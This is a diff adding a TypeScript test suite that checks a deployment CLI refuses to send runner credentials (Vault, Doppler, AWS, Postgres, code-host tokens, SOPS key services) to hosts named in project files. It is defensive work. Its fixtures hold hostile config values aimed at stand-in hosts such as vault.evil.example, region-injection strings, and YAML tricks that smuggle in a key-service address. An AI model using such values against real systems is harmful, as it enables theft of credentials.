@@ -1,0 +1,306 @@
+/** YAML that has a credential of the runner sent to an address that its author chose. */
+import { existsSync } from "node:fs";
+import { chmod, readFile, writeFile } from "node:fs/promises";
+import path from "node:path";
+import { describe, expect, test } from "vitest";
+import { newFolder, saying, startProject } from "../cli/hosting.js";
+import { keyringSource } from "../secrets/sources/keyring.js";
+import { followFor, startTeam } from "../sync/team.js";
+import { base, startFork } from "./fork.js";
+import { canary, shown, startThief, withSource } from "./thief.js";
+
+/** What an author writes, for the address of their server, and what the runner has. */
+interface Try {
+  readonly files: (url: string) => Readonly<Record<string, string>>;
+  readonly environment: Readonly<Record<string, string>>;
+  /** What the server would learn by default. */
+  readonly learns: string;
+  /** Fails for want of a real login, so that nothing of it is heard even where it is allowed. */
+  readonly hasNoLogin?: true;
+}
+
+const pinned = { AVATAROPS_PIN: "1" };
+
+/** Tries it in each mode: by default, pinned, pinned with the host allowed, untrusted, and by sync. */
+async function tryEverywhere({ files, environment, learns, hasNoLogin }: Try): Promise<void> {
+  const refusal = saying("to AVATAROPS_ALLOW_HOSTS");
+  const runner = { PATH: process.env.PATH ?? "", HOME: "/nowhere", ...environment };
+  const plan = async (more: Readonly<Record<string, string>>) => {
+    const thief = await startThief();
+    const project = await startProject({ files: files(thief.url), environment: runner });
+    const hosts = more.AVATAROPS_ALLOW_HOSTS === "" ? { AVATAROPS_ALLOW_HOSTS: thief.host } : {};
+    const planned = await project.avataropsWith({ environment: { ...more, ...hosts } }, "plan");
+    return { heard: thief.heard(), said: shown(planned) };
+  };
+
+  if (!hasNoLogin) {
+    expect((await plan({})).heard).toContain(learns);
+    expect((await plan({ ...pinned, AVATAROPS_ALLOW_HOSTS: "" })).heard).toContain(learns);
+  }
+  expect(await plan(pinned)).toEqual({ heard: "", said: refusal });
+  expect(await plan({ ...pinned, AVATAROPS_ALLOW_HOSTS: "vault.example.com *.example.org" })).toEqual({
+    heard: "",
+    said: refusal,
+  });
+
+  const thief = await startThief();
+  const fork = await startFork(base, { environment: runner });
+  await fork.propose(files(thief.url));
+  expect(shown(await fork.plan())).toMatch(/untrusted/);
+  expect(thief.heard()).toBe("");
+
+  const team = await startTeam(base["avatarops.yaml"].replace("!file prompts/desk.md", "Be kind."), {
+    state: "git+refs://origin/avatarops/production",
+    environment: { ...runner, ...pinned },
+  });
+  const state = "state: git+refs://origin/avatarops/production\n";
+  const proposed = files(thief.url);
+  const main = proposed["avatarops.yaml"] ?? "";
+  await team.commit({ ...proposed, "avatarops.yaml": main.includes("state:") ? main : state + main });
+  // Its command line has --allow-code, so that a source of TypeScript is tried as well.
+  const { log } = await followFor(team, 1, () => {}, "--allow-code");
+  expect(JSON.stringify(log)).toContain("to AVATAROPS_ALLOW_HOSTS");
+  expect(thief.heard()).toBe("");
+}
+
+const source = (text: (url: string) => string) => (url: string) => ({
+  "avatarops.yaml": withSource(text(url)),
+});
+
+describe("credentials of the runner", () => {
+  test("a token or a login for Vault goes to no server that a file names", async () => {
+    await tryEverywhere({
+      files: source((url) => `!vault { path: kv/llm, field: key, address: "${url}" }`),
+      environment: { VAULT_TOKEN: canary },
+      learns: canary,
+    });
+    await tryEverywhere({
+      files: source(
+        (url) => `!vault { path: kv/llm, field: key, address: "${url}", auth: approle, role_id: x }`,
+      ),
+      environment: { VAULT_SECRET_ID: canary },
+      learns: canary,
+    });
+  }, 60_000);
+
+  test("a job's JWT is for no audience that a file names", async () => {
+    const github = await startThief();
+    const project = await startProject({
+      files: {
+        "avatarops.yaml": withSource(
+          "!vault { path: kv/llm, field: key, auth: jwt, audience: sts.amazonaws.com }",
+        ),
+      },
+      environment: {
+        VAULT_ADDR: github.url,
+        ACTIONS_ID_TOKEN_REQUEST_URL: `${github.url}/token`,
+        ACTIONS_ID_TOKEN_REQUEST_TOKEN: "x",
+      },
+    });
+    const refused = await project.avataropsWith({ environment: pinned }, "plan");
+    expect(shown(refused)).toEqual(saying('add "sts.amazonaws.com" to AVATAROPS_ALLOW_HOSTS'));
+    expect(github.heard()).toBe("");
+    for (const environment of [{}, { ...pinned, AVATAROPS_ALLOW_HOSTS: "sts.amazonaws.com" }])
+      await project.avataropsWith({ environment }, "plan");
+    expect(github.heard()).toContain("audience=sts.amazonaws.com");
+    // The environment may name one, too.
+    await project.write("avatarops.yaml", withSource("!vault { path: kv/llm, field: key, auth: jwt }"));
+    await project.avataropsWith({ environment: { ...pinned, VAULT_AUTH_AUDIENCE: "ours" } }, "plan");
+    expect(github.heard()).toContain("audience=ours");
+  });
+
+  test("a token of Doppler goes to no server that a file names", () =>
+    tryEverywhere({
+      files: source((url) => `!doppler { name: KEY, api_host: "${url}" }`),
+      environment: { DOPPLER_TOKEN: canary },
+      learns: canary,
+    }));
+
+  test("a login for Google goes to no endpoint that a file names", () =>
+    tryEverywhere({
+      files: source((url) => `!google-secret-manager { secret: projects/p/secrets/llm, endpoint: "${url}" }`),
+      environment: {},
+      learns: canary,
+      hasNoLogin: true,
+    }));
+
+  test("a login for Azure goes to no vault outside of its public cloud that a file names", () =>
+    tryEverywhere({
+      files: source((url) => `!azure-key-vault { url: "${url}", secret: llm }`),
+      environment: {},
+      learns: canary,
+      hasNoLogin: true,
+    }));
+
+  test("AWS credentials go to no host that the region of a file names", async () => {
+    for (const kind of ["!aws-ssm { name: /llm", "!aws-secrets-manager { id: llm"]) {
+      const files = { "avatarops.yaml": withSource(`${kind}, region: "x.evil.example/#" }`) };
+      const project = await startProject({ files });
+      const planned = await project.avatarops("plan");
+      expect(planned).toMatchObject({ exit: 1, stderr: saying("is not of the form it needs") });
+    }
+    const state = "state: s3://bucket/state.json?region=x.evil.example/%23\ncontexts: {}\n";
+    const project = await startProject({ files: { "avatarops.yaml": state } });
+    expect(shown(await project.avatarops("plan"))).toEqual(saying("has a region that is not a name"));
+  });
+
+  test("a token of 1Password Connect goes to the server of the environment alone", async () => {
+    const thief = await startThief();
+    const files = { "avatarops.yaml": withSource("!onepassword op://Production/LLM/key") };
+    const project = await startProject({ files });
+    const environment = { OP_CONNECT_HOST: thief.url, OP_CONNECT_TOKEN: canary };
+    await project.avataropsWith({ environment: { ...environment, ...pinned } }, "plan");
+    expect(thief.heard()).toContain(canary);
+    const plain = { ...environment, ...pinned, OP_CONNECT_HOST: "http://connect.example.com" };
+    expect(shown(await project.avataropsWith({ environment: plain }, "plan"))).toEqual(
+      saying("would be sent credentials without TLS"),
+    );
+  });
+
+  test("what opens a SOPS file goes to no service that the file names", async () => {
+    const bin = await newFolder();
+    const ran = path.join(bin, "ran");
+    await writeFile(path.join(bin, "sops"), `#!/bin/sh\ntouch ${ran}\nexit 1\n`);
+    await chmod(path.join(bin, "sops"), 0o755);
+    const yaml = await readFile(path.join(import.meta.dirname, "../secrets/sops/production.yaml"), "utf8");
+    const json = await readFile(path.join(import.meta.dirname, "../secrets/sops/production.json"), "utf8");
+    const dotenv = await readFile(path.join(import.meta.dirname, "../secrets/sops/production.env"), "utf8");
+    const url = "https://vault.evil.example";
+    const entry = `{"vault_address": "${url}", "engine_path": "t", "key_name": "k", "enc": "e"}`;
+    const hostile: readonly (readonly [file: string, text: string])[] = [
+      ["s.yaml", yaml.replace("sops:\n", `sops:\n    hc_vault: [${entry}]\n`)],
+      [
+        "s.yaml",
+        `${yaml.replace("sops:\n", "sops:\n    <<: *a\n")}`.replace(
+          "keys:",
+          `x: &a { "hc\\x5fvault": [${entry}] }\nkeys:`,
+        ),
+      ],
+      [
+        "s.yaml",
+        yaml.replace("sops:\n", `sops:\n    key_groups: [{ azure_kv: [{ vault_url: "${url}" }] }]\n`),
+      ],
+      [
+        "s.yaml",
+        yaml.replace("sops:\n", `sops:\n    kms: [{ arn: "arn:aws:kms:evil.example/#:1:key/x" }]\n`),
+      ],
+      ["s.json", json.replace(/"sops": *{/, `"sops": {"HC_Vault": [${entry}]}, "sops": {`)],
+      ["s.env", `${dotenv}\nsops_hc_vault__list_0__map_vault_address=${url}\n`],
+    ];
+    for (const [file, text] of hostile) {
+      expect(text).toMatch(/evil/);
+      const field = file === "s.env" ? "LLM_API_KEY" : "llm.api_key";
+      const files = { [file]: text, "avatarops.yaml": withSource(`!sops "${file}#${field}"`) };
+      const project = await startProject({ files, environment: { PATH: `${bin}:${process.env.PATH}` } });
+      const refused = await project.avataropsWith({ environment: pinned }, "plan");
+      expect(shown(refused), file).toEqual(saying("to AVATAROPS_ALLOW_HOSTS"));
+      expect(existsSync(ran), file).toBe(false);
+    }
+    const files = { "s.yaml": yaml, "avatarops.yaml": withSource("!sops s.yaml#llm.api_key") };
+    const project = await startProject({ files, environment: { PATH: `${bin}:${process.env.PATH}` } });
+    await project.avataropsWith({ environment: pinned }, "apply", "-y");
+    expect(existsSync(ran)).toBe(true);
+  });
+
+  test("TF_HTTP_PASSWORD goes to no store that a new state names", () =>
+    tryEverywhere({
+      files: (url) => ({ "avatarops.yaml": `state: ${url}/state\ncontexts: {}\n` }),
+      environment: { TF_HTTP_USERNAME: "ci", TF_HTTP_PASSWORD: canary },
+      learns: Buffer.from(`ci:${canary}`).toString("base64"),
+    }));
+
+  test("AWS credentials go to no endpoint that a new state names", async () => {
+    const state = (url: string) => `state: s3://bucket/state.json?endpoint=${url}\ncontexts: {}\n`;
+    const thief = await startThief();
+    const project = await startProject({ files: { "avatarops.yaml": state(thief.url) } });
+    const refused = await project.avataropsWith({ environment: pinned }, "plan");
+    expect(shown(refused)).toEqual(saying("to AVATAROPS_ALLOW_HOSTS"));
+    expect(thief.heard()).toBe("");
+  });
+
+  test("PGPASSWORD goes over verified TLS only, and to no server that a new state names", async () => {
+    const files = (query: string, at = "db.evil.example") => ({
+      "avatarops.yaml": `state: postgres://${at}/ops${query}\ncontexts: {}\n`,
+    });
+    const plan = async (query: string, environment: Readonly<Record<string, string>>, at?: string) =>
+      shown(
+        await (
+          await startProject({ files: files(query, at), environment: { PGPASSWORD: canary, ...environment } })
+        ).avatarops("plan"),
+      );
+    const refusal = saying("add db.evil.example to AVATAROPS_ALLOW_HOSTS");
+    expect(await plan("", pinned)).toEqual(refusal);
+    expect(await plan("?host=127.0.0.1&host=db.evil.example", pinned, "127.0.0.1")).toEqual(refusal);
+    const allowed = { ...pinned, AVATAROPS_ALLOW_HOSTS: "db.evil.example" };
+    for (const mode of ["disable", "no-verify"]) {
+      const weak = await plan(`?sslmode=${mode}`, allowed);
+      expect(weak).toEqual(saying(`sslmode=${mode} would send the password to whoever answers`));
+    }
+  });
+
+  test("a state in git is at a remote of the repository, and nowhere else", async () => {
+    const state = "state: git+refs://evil.example/avatarops/production\n";
+    const fork = await startFork();
+    await fork.propose({ "avatarops.yaml": `${state}${base["avatarops.yaml"]}` });
+    expect(shown(await fork.avatarops("plan"))).toEqual(saying("evil.example"));
+    expect(shown(await fork.plan())).toMatch(/untrusted/);
+  });
+
+  test("the token with which sync reads the repository is read by no source", async () => {
+    const settings = withSource("!env GIT_CONFIG_VALUE_0");
+    const team = await startTeam(settings, {
+      state: "git+refs://origin/avatarops/production",
+      // As sync hands its own token to git.
+      environment: { GIT_CONFIG_COUNT: "1", GIT_CONFIG_KEY_0: "user.note", GIT_CONFIG_VALUE_0: canary },
+    });
+    const { log } = await followFor(team, 1);
+    expect(JSON.stringify(log)).toContain("secret.llm.secret_value reads GIT_CONFIG_VALUE_0");
+    expect(team.emulator.world.secrets).toEqual([]);
+  });
+
+  test("the token of the code host goes to the host that CI or the command line names", async () => {
+    const thief = await startThief();
+    const fork = await startFork(base, { environment: { GITHUB_TOKEN: canary, GITLAB_TOKEN: canary } });
+    fork.git("remote", "add", "origin", `${thief.url}/team/avatars.git`);
+    expect(await fork.avatarops("review")).toMatchObject({ exit: 1 });
+    expect(thief.heard()).toBe("");
+  });
+
+  test("credentials of a source of the project's own go to no address that a file names", () =>
+    tryEverywhere({
+      files: (url) => ({
+        "keyring.ts": keyringSource,
+        "avatarops.yaml": withSource(`!keyring { name: llm, address: "${url}" }`, "include: [keyring.ts]"),
+      }),
+      environment: { KEYRING_TOKEN: canary },
+      learns: canary,
+    }));
+
+  test("a file of --env-file does not decide where credentials go", async () => {
+    const thief = await startThief();
+    const files = {
+      "avatarops.yaml": withSource("!vault kv/llm#key"),
+      ".env": `VAULT_ADDR=${thief.url}\nAVATAROPS_ALLOW_HOSTS=${thief.host}\nAVATAROPS_PIN=0\n`,
+    };
+    const project = await startProject({ files, environment: { VAULT_TOKEN: canary, ...pinned } });
+    expect(shown(await project.avatarops("plan", "--env-file", ".env"))).toEqual(saying("Set VAULT_ADDR"));
+    expect(thief.heard()).toBe("");
+  });
+
+  test("without TLS they go to this machine alone, unless the allow-list says so", async () => {
+    const plain = (host: string) => `!vault { path: kv/llm, field: key, address: "http://${host}" }`;
+    const project = await startProject({ files: { "avatarops.yaml": withSource(plain("vault.invalid")) } });
+    const environment = { VAULT_TOKEN: canary };
+    const plan = async (more = {}) =>
+      shown(await project.avataropsWith({ environment: { ...environment, ...more } }, "plan"));
+    const refusal = saying("would be sent credentials without TLS");
+    expect(await plan()).toEqual(refusal);
+    expect(await plan({ ...pinned, AVATAROPS_ALLOW_HOSTS: "vault.invalid" })).toEqual(refusal);
+    expect(await plan({ ...pinned, AVATAROPS_ALLOW_HOSTS: "http://vault.invalid" })).toEqual(
+      saying("does not answer"),
+    );
+    await project.write("avatarops.yaml", withSource("!vault kv/llm#key"));
+    expect(await plan({ ...pinned, VAULT_ADDR: "http://vault.invalid" })).toEqual(refusal);
+    expect(await plan({ ...pinned, AVATAROPS_BASE_URL: "http://service.invalid" })).toEqual(refusal);
+  });
+});
